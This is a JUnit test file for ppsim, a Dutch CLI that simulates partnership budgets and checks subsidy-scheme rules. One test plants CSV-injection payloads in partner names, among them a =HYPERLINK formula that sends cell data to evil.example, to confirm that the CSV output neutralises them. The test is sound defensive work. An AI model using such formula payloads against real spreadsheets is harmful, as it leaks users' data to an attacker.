package nl.ppsim.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** The command line: exit codes, messages for every kind of bad input, no partial reports. */
class CliTest {

    /** Result of one command: exit code and captured output. */
    public record Outcome(int code, String out, String err) {}

    public static Outcome exec(String... args) {
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        int code = Main.execute(args, new PrintWriter(out, true), new PrintWriter(err, true));
        return new Outcome(code, out.toString(), err.toString());
    }

    static final String VALID = """
            scenario: cli-test
            start_year: 2026
            subsidy_years: 2
            horizon_years: 5
            iterations: 2000
            seed: 3
            subsidy: {per_year: 100000}
            partners:
              - name: ROC
                group: onderwijs
                cash_per_year: 50000
                committed_years: 2
                renewal_probability: 0.5
              - name: Bedrijf
                group: werkveld
                cash_per_year: {uniform: [10000, 30000]}
            lines:
              - name: team
                kind: cost
                amount: {normal: [90000, 5000]}
            """;

    static Stream<Arguments> badInputs() {
        return Stream.of(
                Arguments.of(
                        "unknown key",
                        VALID.replace("seed: 3", "seed: 3\nsubsidie_jaren: 4"),
                        "subsidie_jaren",
                        "onbekende sleutel"),
                Arguments.of(
                        "misspelt key gets a suggestion",
                        VALID.replace("cash_per_year: 50000", "cash_per_yaer: 50000"),
                        "partners[0].cash_per_yaer",
                        "bedoelt u 'cash_per_year'"),
                Arguments.of(
                        "wrong type",
                        VALID.replace("cash_per_year: 50000", "cash_per_year: veel"),
                        "partners[0].cash_per_year",
                        "verwacht een getal"),
                Arguments.of(
                        "Dutch thousands separator",
                        VALID.replace("cash_per_year: 50000", "cash_per_year: 50.000.000"),
                        "partners[0].cash_per_year",
                        "50.000.000 -> 50000000"),
                Arguments.of(
                        "missing required key", VALID.replace("start_year: 2026\n", ""), "start_year", "ontbreekt"),
                Arguments.of(
                        "missing partner name",
                        VALID.replace("  - name: ROC\n    group", "  - group"),
                        "partners[0].name",
                        "ontbreekt"),
                Arguments.of(
                        "negative sd",
                        VALID.replace("{normal: [90000, 5000]}", "{normal: [90000, -5]}"),
                        "lines[0].amount",
                        "standaardafwijking"),
                Arguments.of(
                        "min > max",
                        VALID.replace("{uniform: [10000, 30000]}", "{uniform: [30000, 10000]}"),
                        "partners[1].cash_per_year",
                        "min (30000) mag niet groter"),
                Arguments.of(
                        "negative amount",
                        VALID.replace("cash_per_year: 50000", "cash_per_year: -50000"),
                        "partners[0].cash_per_year",
                        "niet negatief"),
                Arguments.of(
                        "probability above 1",
                        VALID.replace("renewal_probability: 0.5", "renewal_probability: 1.5"),
                        "partners[0].renewal_probability",
                        "tussen 0 en 1"),
                Arguments.of(
                        "horizon <= subsidy",
                        VALID.replace("horizon_years: 5", "horizon_years: 2"),
                        "horizon_years",
                        "groter zijn dan subsidy_years"),
                Arguments.of(
                        "from > to",
                        VALID.replace("amount: {normal: [90000, 5000]}", "amount: 1\n    from_year: 4\n    to_year: 2"),
                        "lines[0].to_year",
                        "ligt voor from_year"),
                Arguments.of(
                        "unknown group",
                        VALID.replace("group: werkveld", "group: bedrijven"),
                        "partners[1].group",
                        "geldig: onderwijs, werkveld, overheid"),
                Arguments.of(
                        "unknown distribution",
                        VALID.replace("{uniform: [10000, 30000]}", "{gamma: [2, 3]}"),
                        "partners[1].cash_per_year",
                        "onbekende sleutel 'gamma'"),
                Arguments.of(
                        "wrong number of parameters",
                        VALID.replace("{uniform: [10000, 30000]}", "{triangular: [1, 2]}"),
                        "partners[1].cash_per_year",
                        "verwacht 3 getallen"),
                Arguments.of(
                        "duplicate partner",
                        VALID.replace("name: Bedrijf", "name: ROC"),
                        "partners[1]",
                        "komt twee keer voor"),
                Arguments.of("duplicate key", VALID.replace("seed: 3", "seed: 3\nseed: 4"), "", "seed"),
                Arguments.of("empty file", "", "", "leeg"),
                Arguments.of("comments only", "# niets\n", "", "leeg"),
                Arguments.of("YAML syntax error", "scenario: x\n  partners: [a, b\n", "", "geen geldige YAML"),
                Arguments.of("not a mapping", "- a\n- b\n", "", "blok met sleutels"),
                Arguments.of(
                        "unknown business model",
                        VALID + "business_models:\n  - model: kantine\n",
                        "business_models[0].model",
                        "geldig: opleidingshuis, leren_in_de_praktijk"),
                Arguments.of(
                        "unknown model parameter",
                        VALID + "business_models:\n  - model: trainingsbureau\n    params: {cursussen: 5}\n",
                        "business_models[0].params.cursussen",
                        "courses_per_year, participants_per_course"),
                Arguments.of(
                        "fraction above 1",
                        VALID + "business_models:\n  - model: verkoopkantoor\n    params: {margin: 15}\n",
                        "business_models[0].params.margin",
                        "tussen 0 en 1"),
                Arguments.of(
                        "negative model amount",
                        VALID
                                + "business_models:\n  - model: trainingsbureau\n    params: {fee_per_participant: {uniform: [-5, 10]}}\n",
                        "business_models[0].params.fee_per_participant",
                        "niet negatief"),
                Arguments.of(
                        "duplicate model name",
                        VALID + "business_models:\n  - model: loket\n  - model: loket\n",
                        "business_models[1]",
                        "komt twee keer voor"),
                Arguments.of(
                        "payer shares that do not add up",
                        VALID
                                + "business_models:\n  - model: trainingsbureau\n    payers: {werkveld: 0.6, deelnemers: 0.3}\n",
                        "business_models[0].payers",
                        "samen moeten ze 1 zijn"),
                Arguments.of(
                        "payers of an unknown revenue item",
                        VALID + "business_models:\n  - model: trainingsbureau\n    payers: {cursusgeld: werkveld}\n",
                        "business_models[0].payers.cursusgeld",
                        "course_fees"),
                Arguments.of(
                        "unknown bearer",
                        VALID + "business_models:\n  - model: opleidingshuis\n    carried_by: {teachers: school}\n",
                        "business_models[0].carried_by.teachers",
                        "onderwijs, werkveld, overheid"),
                Arguments.of(
                        "bearer of an unknown cost item",
                        VALID + "business_models:\n  - model: opleidingshuis\n    carried_by: {docenten: onderwijs}\n",
                        "business_models[0].carried_by.docenten",
                        "teachers, development, company_experts"),
                Arguments.of(
                        "overhead allocated to an unknown model",
                        VALID.replace(
                                        "amount: {normal: [90000, 5000]}",
                                        "amount: {normal: [90000, 5000]}\n    allocate: {Lab: 1}")
                                + "business_models:\n  - model: loket\n",
                        "lines[0].allocate",
                        "geen bedrijfsmodel heet 'Lab'"),
                Arguments.of(
                        "overhead shares that do not add up",
                        VALID.replace(
                                        "amount: {normal: [90000, 5000]}",
                                        "amount: {normal: [90000, 5000]}\n    allocate: {Loket: 0.5}")
                                + "business_models:\n  - model: loket\n",
                        "lines[0].allocate",
                        "samen 1"),
                Arguments.of(
                        "stop rule after overhead without overhead",
                        VALID + "business_models:\n  - model: loket\n"
                                + "    stop_rule: {years: 2, after_overhead: true}\n",
                        "business_models[0]",
                        "geen regel verdeelt overhead"),
                Arguments.of(
                        "a scenario without any flow",
                        "scenario: leeg\nstart_year: 2026\nsubsidy_years: 2\nhorizon_years: 5\n",
                        "regel 1",
                        "geen geldstromen"),
                Arguments.of(
                        "a tab in the indentation",
                        VALID.replace("  - name: team", "\t- name: team"),
                        "regel",
                        "er staat een tab"),
                Arguments.of(
                        "a misspelt distribution",
                        VALID.replace("amount: {normal: [90000, 5000]}", "amount: {triangle: [1, 2, 3]}"),
                        "lines[0].amount.triangle",
                        "bedoelt u 'triangular'"),
                Arguments.of(
                        "stop rule without years",
                        VALID + "business_models:\n  - model: loket\n    stop_rule: {margin_below: 0}\n",
                        "business_models[0].stop_rule.years",
                        "ontbreekt"),
                Arguments.of(
                        "unknown scheme",
                        VALID.replace("subsidy: {per_year: 100000}", "subsidy: {scheme: mit, per_year: 100000}"),
                        "subsidy.scheme",
                        "geldig: rif, rif-2024"),
                Arguments.of(
                        "rules without custom",
                        VALID.replace(
                                "subsidy: {per_year: 100000}", "subsidy: {scheme: rif, per_year: 100000, rules: {}}"),
                        "subsidy.rules",
                        "alleen bij scheme: custom"),
                Arguments.of(
                        "custom share above 1",
                        VALID.replace(
                                "subsidy: {per_year: 100000}",
                                "subsidy: {scheme: custom, per_year: 100000, rules: {subsidy_share: {max: 33}}}"),
                        "subsidy.rules.subsidy_share",
                        "tussen 0 en 1"),
                Arguments.of(
                        "hours without a rate",
                        VALID.replace("cash_per_year: 50000", "in_kind_hours_per_year: 500"),
                        "partners[0].in_kind_hours_per_year",
                        "uurtarief van een regeling"),
                Arguments.of(
                        "source on a plain key",
                        VALID.replace("cash_per_year: 50000", "cash_per_year: {value: 5, bron: x}"),
                        "partners[0].cash_per_year.bron",
                        "geldig hier"),
                Arguments.of(
                        "bad scenario id",
                        VALID.replace("scenario: cli-test", "scenario: Mijn PPS"),
                        "scenario",
                        "geen geldige naam"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("badInputs")
    void badInputGivesOneClearMessageAndExitTwo(
            String what, String yaml, String path, String message, @TempDir Path dir) throws IOException {
        Path file = dir.resolve("plan.yaml");
        Files.writeString(file, yaml);
        Path out = dir.resolve("rapport");
        Outcome o = exec("run", file.toString(), "--out", out.toString());
        assertEquals(2, o.code(), o.err());
        assertTrue(o.err().contains(file.toString()), "names the file: " + o.err());
        assertTrue(o.err().contains(path), "names the path " + path + ": " + o.err());
        assertTrue(o.err().contains(message), "says " + message + ": " + o.err());
        assertFalse(o.err().contains("Exception"), "no stack trace: " + o.err());
        assertFalse(o.err().contains("\tat "), "no stack trace: " + o.err());
        assertFalse(Files.exists(out), "no partial report");
        assertEquals(2, exec("validate", file.toString()).code());
    }

    @Test
    void completionCompletesCommandsOptionsAndChoices() {
        Outcome o = exec("completion");
        assertEquals(0, o.code(), o.err());
        assertTrue(
                o.out().contains("complete -F _complete_ppsim") || o.out().contains("_complete_ppsim ppsim"), o.out());
        for (String word : List.of("sensitivity", "template", "--lang", "--iterations", "--sampling")) {
            assertTrue(o.out().contains(word), word);
        }
    }

    @Test
    void missingFileAndDirectory(@TempDir Path dir) {
        Outcome o = exec("run", dir.resolve("bestaat-niet.yaml").toString());
        assertEquals(2, o.code());
        assertTrue(o.err().contains("bestand bestaat niet"), o.err());
        Outcome d = exec("validate", dir.toString());
        assertEquals(2, d.code());
        assertTrue(d.err().contains("map"), d.err());
    }

    @Test
    void unwritableOutputGivesAClearMessage(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("plan.yaml");
        Files.writeString(file, VALID);
        Path blocker = dir.resolve("bestand");
        Files.writeString(blocker, "geen map");
        Outcome o =
                exec("run", file.toString(), "--out", blocker.resolve("rapport").toString(), "--no-charts");
        assertEquals(2, o.code(), "the user can fix it: exit 2");
        assertTrue(o.err().contains("is een bestand, geen map") && o.err().contains("--out"), o.err());
        assertFalse(o.err().contains("Interne fout") || o.err().contains("\tat "), o.err());
    }

    @Test
    void usageErrorsExitTwo(@TempDir Path dir) throws IOException {
        assertEquals(2, exec("run").code());
        assertEquals(2, exec("vliegen").code());
        Path file = dir.resolve("plan.yaml");
        Files.writeString(file, VALID);
        assertEquals(2, exec("run", file.toString(), "--threads", "0").code());
        assertEquals(2, exec("run", file.toString(), "--iterations", "veel").code());
        assertEquals(2, exec("run", file.toString(), "--lang", "de").code());
    }

    @Test
    void modelsListsTheCatalogAndShowsOneModel() {
        Outcome list = exec("models");
        assertEquals(0, list.code());
        assertTrue(list.out().contains("leven lang leren") && list.out().contains("trainingsbureau"), list.out());
        Outcome one = exec("models", "trainingsbureau");
        assertEquals(0, one.code());
        assertTrue(one.out().contains("courses_per_year") && one.out().contains("illustratieve aannames"), one.out());
        Outcome english = exec("models", "trainingsbureau", "--lang", "en");
        assertTrue(
                english.out().contains("illustrative assumptions")
                        && english.out().contains("Courses per year"),
                english.out());
        Outcome unknown = exec("models", "kantine");
        assertEquals(2, unknown.code());
        assertTrue(unknown.err().contains("geldig: opleidingshuis"), unknown.err());
    }

    @Test
    void aRoundOfThreePlansOneBrokenIsRankedWithTheBrokenOneMarked(@TempDir Path dir) throws IOException {
        Path plans = dir.resolve("ronde");
        Files.createDirectories(plans);
        Files.copy(Path.of("scenarios/plan-rif.yaml"), plans.resolve("a-plan-rif.yaml"));
        // techniek-mbo with a stream of contract assignments after the subsidy, under the same scheme: a plan that
        // breaks no rule
        Files.writeString(
                plans.resolve("b-techniek.yaml"),
                Files.readString(Path.of("scenarios/techniek-mbo.yaml"))
                        .replace(
                                "\nlines:\n",
                                "\nlines:\n  - {name: opdrachten, kind: revenue, amount: 150000, from_year: 5}\n")
                        .replace("scheme: rif\n", "scheme: rif-2014\n"));
        Files.writeString(plans.resolve("c-kapot.yaml"), "scenario: kapot\nstart_year: 2026\n");
        Files.copy(Path.of("scenarios/bench.yaml"), plans.resolve("d-bench.yaml"));
        Path out = dir.resolve("overzicht");
        Outcome o = exec(
                "check",
                plans.toString(),
                "--out",
                out.toString(),
                "--iterations",
                "1000",
                "--tornado-iterations",
                "200",
                "--budget",
                "1500000");
        assertEquals(3, o.code(), o.err() + o.out());
        List<String> rows = Files.readAllLines(out.resolve("round.csv"));
        assertEquals(4, rows.size(), String.join("\n", rows));
        // techniek-mbo breaks no rule and comes first; plan-rif breaks the subsidy share; the broken plan is last, with
        // its error
        assertTrue(
                rows.get(1).startsWith("1,")
                        && rows.get(1).contains("techniek-mbo")
                        && rows.get(1).contains(",true,"),
                rows.get(1));
        assertTrue(
                rows.get(2).startsWith("2,")
                        && rows.get(2).contains("plan-rif")
                        && rows.get(2).contains(",false,"),
                rows.get(2));
        assertTrue(
                rows.get(3).startsWith("3,")
                        && rows.get(3).contains("c-kapot.yaml")
                        && rows.get(3).contains("subsidy_years"),
                rows.get(3));
        assertTrue(Files.exists(out.resolve("round.html")) && Files.exists(out.resolve("checks-plan-rif.csv")));
        assertTrue(o.out().contains("d-bench.yaml: overgeslagen"), o.out());
        assertTrue(Files.readString(out.resolve("round.html"))
                .contains("een regel van ppsim, geen oordeel van een beoordelingscommissie"));
        assertTrue(Files.readString(out.resolve("round.html")).contains("niet te beoordelen"));
        // a round in which no plan can be judged is an input error
        Path broken = dir.resolve("kapot");
        Files.createDirectories(broken);
        Files.writeString(broken.resolve("x.yaml"), "scenario: x\n");
        Outcome none =
                exec("check", broken.toString(), "--out", dir.resolve("leeg").toString());
        assertEquals(2, none.code());
        assertTrue(none.err().contains("geen enkel plan"), none.err());
        assertFalse(Files.exists(dir.resolve("leeg")), "no report for a round without a judged plan");
    }

    @Test
    void aRoundNeverRanksPlansOfDifferentSchemesUnderOneBudget(@TempDir Path dir) throws IOException {
        Path plans = dir.resolve("ronde");
        Files.createDirectories(plans);
        Files.copy(Path.of("scenarios/plan-rif.yaml"), plans.resolve("a-plan-rif.yaml")); // rif-2014
        Files.copy(Path.of("scenarios/techniek-mbo.yaml"), plans.resolve("b-techniek.yaml")); // rif (2024)
        Files.writeString(
                plans.resolve("c-zonder.yaml"),
                Files.readString(Path.of("scenarios/techniek-mbo.yaml"))
                        .replace("scenario: techniek-mbo", "scenario: zonder-regeling")
                        .replace("  scheme: rif\n", ""));
        String[] quick = {"--iterations", "1000", "--tornado-iterations", "200"};
        // one budget over two schemes: refused before anything runs, with what to do instead
        Outcome mixed = exec(concat(
                new String[] {
                    "check", plans.toString(), "--out", dir.resolve("m").toString(), "--budget", "3000000"
                },
                quick));
        assertEquals(2, mixed.code(), mixed.out());
        assertTrue(
                mixed.err().contains("verschillende regelingen (rif-2014, rif-2024)")
                        && mixed.err().contains("--scheme"),
                mixed.err());
        assertFalse(Files.exists(dir.resolve("m")));
        // without a budget: ranked per scheme, each against its own ceiling; the plan without a scheme cannot be placed
        Path per = dir.resolve("per");
        Outcome perScheme = exec(concat(new String[] {"check", plans.toString(), "--out", per.toString()}, quick));
        assertEquals(3, perScheme.code(), perScheme.err());
        assertTrue(
                perScheme.out().contains("Rangorde rif-2014")
                        && perScheme.out().contains("Rangorde rif-2024 (budget EUR 18,0 mln)"),
                perScheme.out());
        assertTrue(
                perScheme.out().contains("c-zonder.yaml: niet te beoordelen")
                        && perScheme.out().contains("--scheme"),
                perScheme.out());
        String html = Files.readString(per.resolve("round.html"));
        assertTrue(
                html.contains("elke regeling heeft haar eigen rangorde en budget")
                        && html.contains("Regeling rif-2014")
                        && html.contains("Regeling rif-2024"),
                html);
        // the round of one scheme: the other scheme's plan is left out, the plan that names none is judged against it
        Path one = dir.resolve("een");
        Outcome round = exec(concat(
                new String[] {
                    "check", plans.toString(), "--out", one.toString(), "--scheme", "rif", "--budget", "3000000"
                },
                quick));
        assertTrue(round.code() == 0 || round.code() == 3, round.err());
        assertTrue(
                round.out().contains("a-plan-rif.yaml: overgeslagen: valt onder rif-2014, de ronde is voor rif-2024"),
                round.out());
        assertTrue(
                round.out().contains("c-zonder.yaml: noemt geen regeling; beoordeeld tegen die van de ronde, rif-2024"),
                round.out());
        List<String> rows = Files.readAllLines(one.resolve("round.csv"));
        assertEquals(3, rows.size(), String.join("\n", rows));
        assertTrue(rows.stream().skip(1).allMatch(r -> r.contains(",rif-2024,")), String.join("\n", rows));
        assertTrue(Files.readString(one.resolve("round.html")).contains("Niet in deze ronde (een andere regeling)"));
        Outcome unknown =
                exec("check", plans.toString(), "--out", dir.resolve("x").toString(), "--scheme", "rof");
        assertEquals(2, unknown.code());
        assertTrue(
                unknown.err().contains("onbekende regeling 'rof'")
                        && unknown.err().contains("rif-2024"),
                unknown.err());
    }

    @Test
    void aSinglePlanIsJudgedAgainstTheSchemeTheReviewerGives(@TempDir Path dir) throws IOException {
        // voorbeeld asks for a subsidy and names no scheme: an input error, unless the reviewer names one
        assertEquals(
                2,
                exec(
                                "check",
                                "scenarios/voorbeeld.yaml",
                                "--out",
                                dir.resolve("a").toString())
                        .code());
        Outcome o = exec(
                "check",
                "scenarios/voorbeeld.yaml",
                "--scheme",
                "rif",
                "--out",
                dir.resolve("b").toString(),
                "--iterations",
                "1000",
                "--tornado-iterations",
                "200",
                "--no-charts");
        assertTrue(o.code() == 0 || o.code() == 3, o.err());
        assertTrue(Files.readString(dir.resolve("b/checks.csv")).contains("regeling.subsidiebedrag"));
        Outcome other = exec(
                "check",
                "scenarios/techniek-mbo.yaml",
                "--scheme",
                "rif-2014",
                "--out",
                dir.resolve("c").toString());
        assertEquals(2, other.code());
        assertTrue(other.err().contains("noemt regeling rif-2024, niet rif-2014"), other.err());
    }

    private static String[] concat(String[] a, String[] b) {
        String[] out = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }

    @Test
    void checkingAPlanWhoseSubsidyNamesNoSchemeIsAnInputError(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("plan.yaml");
        Files.writeString(file, VALID);
        Outcome o = exec("check", file.toString(), "--out", dir.resolve("r").toString());
        assertEquals(2, o.code(), o.out());
        assertTrue(o.err().contains("noemt geen regeling") && o.err().contains("rif-2024"), o.err());
        Files.writeString(file, VALID.replace("subsidy: {per_year: 100000}", """
                subsidy: {per_year: 100000, scheme: custom, rules: {subsidy_share: {max: veel}}}"""));
        Outcome wrongType =
                exec("check", file.toString(), "--out", dir.resolve("r").toString());
        assertEquals(2, wrongType.code());
        assertTrue(
                wrongType.err().contains("subsidy.rules.subsidy_share.max")
                        && wrongType.err().contains("verwacht een getal"),
                wrongType.err());
    }

    @Test
    void anUnknownSchemeOrVariantIsAClearError(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("plan.yaml");
        Files.writeString(
                file,
                VALID.replace(
                        "subsidy: {per_year: 100000}", "subsidy: {per_year: 100000, scheme: rif, variant: entre}"));
        Outcome o = exec("validate", file.toString());
        assertEquals(2, o.code());
        assertTrue(
                o.err().contains("subsidy.variant")
                        && o.err().contains("bedoelt u 'entree'")
                        && o.err().contains("opschaler"),
                o.err());
        Outcome schemes = exec("schemes", "raak-mkb");
        assertEquals(0, schemes.code());
        assertTrue(
                schemes.out().contains("min_partners.werkveld") && schemes.out().contains("[onbevestigd]"),
                schemes.out());
        assertEquals(2, exec("schemes", "rif-2030").code());
    }

    /**
     * The schemes as they stand, each figure with the public source it came from (December 2026):
     * SPRONG round 3, RAAK-PRO October 2024 (Regieorgaan SIA), RAAK-mkb (the calls as summarised),
     * the Groeifonds's EUR 123 mln over fifteen consortia, the CoE's EUR 1 mln a year for five years.
     */
    @Test
    void schemesShowTheirFiguresAsTheyStandWithTheirSources() {
        String list = exec("schemes").out();
        assertTrue(
                list.contains(
                        "sprong           SPRONG (Regieorgaan SIA) [geldend]; subsidie tot EUR 1.000.000, hoogstens 50,0% van de kosten,"
                                + " 4 jaar"),
                list);
        assertTrue(list.contains("subsidie tot EUR 8.200.000"), list);
        assertTrue(
                list.contains(
                        "coe-hbo          Centre of Expertise (hbo) [geldend]; subsidie tot EUR 5.000.000, 5 jaar"),
                list);
        assertTrue(
                list.contains(
                        "subsidie tot EUR 300.000, hoogstens 50,0% van de kosten, ten minste 6 werkveld, hoogstens 2 jaar"),
                list);
        assertTrue(list.contains("subsidie tot EUR 700.000"), list);
        for (String id : nl.ppsim.io.SchemeReader.SHIPPED) {
            String shown = exec("schemes", id).out();
            assertFalse(shown.contains("domeinnotities"), id + " cites notes no reader can open: " + shown);
            for (var rule : nl.ppsim.io.SchemeReader.shipped(id).rules()) {
                assertFalse(rule.limit().source().isBlank(), id + " " + rule.name() + " has no source");
            }
        }
        String sprong = exec("schemes", "sprong").out();
        assertTrue(
                sprong.contains("regieorgaan-sia.nl/financiering/sprong") && !sprong.contains("[onbevestigd]"), sprong);
        String rif = exec("schemes", "rif").out();
        assertTrue(
                !rif.contains("ineligible.") && rif.contains("4:46, tweede lid") && rif.contains("bevoegdheid"), rif);
        // an exclusion ships only with a public source: RAAK-PRO's (NWO); the RIF's are not found, so a note says how
        // to add one
        assertTrue(exec("schemes", "raak-pro").out().contains("ineligible.curriculum"));
        String entree = exec("schemes", "rif", "--variant", "entree").out();
        assertTrue(entree.contains("group_shares.werkveld  >= 25,0%                   [onbevestigd]"), entree);
    }

    @Test
    void checkInEnglishSpeaksEnglishEverywhere(@TempDir Path dir) throws IOException {
        Path out = dir.resolve("review");
        Outcome o = exec(
                "check",
                "scenarios/plan-rif.yaml",
                "--out",
                out.toString(),
                "--iterations",
                "1000",
                "--tornado-iterations",
                "200",
                "--lang",
                "en");
        assertEquals(3, o.code(), o.err());
        String register = Files.readString(out.resolve("assumptions.csv"));
        assertTrue(
                register.contains("catalog default (illustrative)") && !register.contains("catalogusstandaard"),
                register);
        String checks = Files.readString(out.resolve("checks.csv"));
        String html = Files.readString(out.resolve("report.html"));
        for (String text : List.of(o.out(), checks, html)) {
            for (String dutch : List.of(
                    "voldoet", "waarschuwing", "ter informatie", "Conclusie", "Toelichting", "Regeling:", " kans ")) {
                assertFalse(text.contains(dutch), "no '" + dutch + "' in English output");
            }
        }
        assertTrue(
                o.out().contains("[fail] Subsidy share") && o.out().contains("Conclusion: the plan does NOT comply"),
                o.out());
    }

    @Test
    void namesThatLookLikeFormulasStayTextInEveryCsv(@TempDir Path dir) throws IOException {
        String plan = Files.readString(Path.of("scenarios/plan-rif.yaml"))
                .replace("name: ROC Maritiem", "name: '=HYPERLINK(\"http://evil.example/?x=\"&A2,\"klik\")'")
                .replace("name: programmabureau", "name: '+1+1'")
                .replace("name: Provincie en gemeente", "name: '@SUM(A1)'");
        Path file = Files.writeString(dir.resolve("aanval.yaml"), plan);
        for (String format : List.of("rfc4180", "excel-nl")) {
            Path out = dir.resolve("toets-" + format);
            Outcome o = exec(
                    "check",
                    file.toString(),
                    "--out",
                    out.toString(),
                    "--iterations",
                    "1000",
                    "--tornado-iterations",
                    "200",
                    "--csv",
                    format,
                    "--no-charts");
            assertEquals(3, o.code(), o.err());
            char separator = format.equals("rfc4180") ? ',' : ';';
            int seen = 0;
            try (var files = Files.list(out)) {
                for (Path csvFile :
                        files.filter(p -> p.toString().endsWith(".csv")).toList()) {
                    try (com.opencsv.CSVReader csv = new com.opencsv.CSVReaderBuilder(Files.newBufferedReader(csvFile))
                            .withCSVParser(new com.opencsv.CSVParserBuilder()
                                    .withSeparator(separator)
                                    .build())
                            .build()) {
                        for (String[] row : csv.readAll()) {
                            for (String cell : row) {
                                seen += cell.contains("HYPERLINK") || cell.contains("+1+1") || cell.contains("@SUM")
                                        ? 1
                                        : 0;
                                assertFalse(
                                        !cell.isEmpty() && "=+@\t\r".indexOf(cell.charAt(0)) >= 0,
                                        csvFile.getFileName() + ": " + cell);
                                assertFalse(
                                        cell.startsWith("-") && !cell.matches("-[0-9]+([.,][0-9]+)?"),
                                        csvFile.getFileName() + ": " + cell);
                            }
                        }
                    } catch (com.opencsv.exceptions.CsvException e) {
                        throw new AssertionError(e);
                    }
                }
            }
            assertTrue(seen >= 3, "the names are in the CSVs, as text: " + seen);
        }
    }

    @Test
    void checkExitsThreeWhenARuleFailsAndWritesChecksCsv(@TempDir Path dir) throws IOException {
        Path out = dir.resolve("toets");
        Outcome o = exec(
                "check",
                "scenarios/plan-rif.yaml",
                "--out",
                out.toString(),
                "--iterations",
                "2000",
                "--tornado-iterations",
                "300");
        assertEquals(3, o.code(), o.err());
        assertTrue(o.out().contains("[voldoet niet] Subsidieaandeel"), o.out());
        assertTrue(o.out().contains("[waarschuwing] Jaren na de subsidie"), o.out());
        assertTrue(o.out().contains("Conclusie: het plan voldoet NIET"), o.out());
        String checks = Files.readString(out.resolve("checks.csv"));
        assertTrue(
                checks.startsWith(
                        "rule,verdict,value,unit,se,pass_low,pass_high,warn_low,warn_high,unverified,source,items,explanation\r\n"),
                checks);
        assertTrue(checks.contains("\r\nregeling.subsidieaandeel,fail,0.3"), checks);
        try (com.opencsv.CSVReader csv = new com.opencsv.CSVReader(new java.io.StringReader(checks))) {
            List<String[]> rows = csv.readAll();
            for (String[] row : rows.subList(1, rows.size())) {
                for (int k = 2; k <= 8; k++) {
                    if (k != 3 && !row[k].isEmpty()) {
                        Double.parseDouble(row[k]);
                    }
                }
                assertTrue(
                        List.of("pass", "warn", "fail", "info", "uncertain").contains(row[1]), String.join(",", row));
            }
        } catch (com.opencsv.exceptions.CsvException e) {
            throw new AssertionError(e);
        }
        String register = Files.readString(out.resolve("assumptions.csv"));
        assertTrue(register.startsWith("path,label,distribution,"), register);
        assertTrue(
                register.matches(
                        "(?s).*\r\npartners\\[0]\\.in_kind_hours_per_year,[^,\r\n]+: uren in natura per jaar,\"?triangular\\(1200, 1500, 1800\\).*"),
                register);
        assertTrue(register.contains("urenplanning docenten"), "sources listed: " + register);
        String html = Files.readString(out.resolve("report.html"));
        try (org.dhatim.fastexcel.reader.ReadableWorkbook wb = new org.dhatim.fastexcel.reader.ReadableWorkbook(
                out.resolve("report.xlsx").toFile())) {
            List<org.dhatim.fastexcel.reader.Row> review =
                    wb.findSheet("Toetsing").orElseThrow().read();
            org.dhatim.fastexcel.reader.Row share = review.stream()
                    .filter(r -> r.getCell(7) != null
                            && "regeling.subsidieaandeel".equals(r.getCell(7).getText()))
                    .findFirst()
                    .orElseThrow();
            assertEquals(
                    org.dhatim.fastexcel.reader.CellType.NUMBER,
                    share.getCell(2).getType(),
                    "the check's value is a number in report.xlsx");
        }
        assertTrue(
                html.contains("id=\"toetsing\"")
                        && html.contains("Aannameregister")
                        && html.contains("urenplanning docenten")
                        && html.contains("(geen bron)"),
                "register in the page");
    }

    @Test
    void checkExitsZeroWhenNothingFails(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("plan.yaml");
        Files.writeString(file, nl.ppsim.check.PlanReviewTest.BASE);
        Outcome o = exec(
                "check",
                file.toString(),
                "--out",
                dir.resolve("r").toString(),
                "--no-charts",
                "--tornado-iterations",
                "200");
        assertEquals(0, o.code(), o.out() + o.err());
        assertTrue(o.out().contains("Conclusie: het plan voldoet"), o.out());
        assertEquals(2, exec("check", dir.resolve("geen.yaml").toString()).code());
        assertEquals(2, exec("check", file.toString(), "--threshold", "1.5").code());
    }

    @Test
    void helpAndVersion() {
        Outcome h = exec("--help");
        assertEquals(0, h.code());
        assertTrue(h.out().contains("run") && h.out().contains("validate"), h.out());
        Outcome v = exec("--version");
        assertEquals(0, v.code());
        assertTrue(v.out().startsWith("ppsim "), v.out());
    }

    @Test
    void runWritesReportAndPrintsDutchSummary(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("plan.yaml");
        Files.writeString(file, VALID);
        Path out = dir.resolve("rapport");
        Outcome o = exec("run", file.toString(), "--out", out.toString(), "--no-charts", "--threads", "2");
        assertEquals(0, o.code(), o.err());
        assertTrue(o.out().contains("Kans op verduurzaming"), o.out());
        assertTrue(o.out().contains("95%-interval"), o.out());
        assertTrue(Files.exists(out.resolve("yearly.csv")));
        String summary = Files.readString(out.resolve("summary.csv"));
        assertTrue(summary.startsWith("metric,value\r\n"), summary);
        assertTrue(summary.contains("\r\niterations,2000\r\n"), summary);
        assertTrue(summary.contains("\r\nseed,3\r\n"), summary);
        // overrides from the command line win
        Outcome again = exec(
                "run", file.toString(), "--out", out.toString(), "--no-charts", "--iterations", "1500", "--seed", "9");
        assertEquals(0, again.code(), again.err());
        String replaced = Files.readString(out.resolve("summary.csv"));
        assertTrue(replaced.contains("\r\niterations,1500\r\n") && replaced.contains("\r\nseed,9\r\n"), replaced);
        try (var listing = Files.list(dir)) {
            assertEquals(2, listing.count(), "no temp or backup folders left behind");
        }
        Outcome validate = exec("validate", file.toString());
        assertEquals(0, validate.code());
        assertTrue(validate.out().contains("geldig scenario"), validate.out());
    }

    /** The shared server's options: each mistake a one-line message and exit 2, before anything starts. */
    @Test
    void sharedServerOptionsThatCannotWorkAreRefusedWithAMessage(@TempDir Path dir) throws IOException {
